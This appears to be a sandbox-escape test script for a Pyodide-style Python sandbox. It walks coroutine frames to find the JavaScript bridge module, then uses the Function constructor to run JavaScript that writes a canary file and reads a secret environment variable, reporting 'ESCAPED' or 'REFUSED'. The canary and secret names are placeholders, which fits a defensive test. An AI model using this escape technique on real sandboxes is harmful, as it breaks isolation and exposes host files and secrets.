# Tries: follow the running task's coroutine cr_frame.f_back out of the program into the loop and harness.
import asyncio
import json
import types

CANARY = "__LOOPLAB_CANARY__"
SECRET_NAME = "__LOOPLAB_SECRET_NAME__"

BODY = f"""
  const fs = globalThis.process?.getBuiltinModule?.('fs');
  fs?.writeFileSync({json.dumps(CANARY)}, 'written through cr_frame');
  return String(globalThis.process?.env?.[{json.dumps(SECRET_NAME)}]);
"""


async def main():
    frame = asyncio.current_task().get_coro().cr_frame
    hops = 0
    while frame is not None:
        for value in list(frame.f_globals.values()) + list(frame.f_locals.values()):
            if isinstance(value, types.ModuleType) and value.__name__ in ("js", "pyodide_js", "_pyodide_core"):
                secret = value.constructor.constructor(BODY)()
                print("ESCAPED: cr_frame led to", value.__name__, "the secret is", secret)
                return
        frame = frame.f_back
        hops += 1
    print("REFUSED: no JavaScript module after", hops, "frames")


asyncio.run(main())
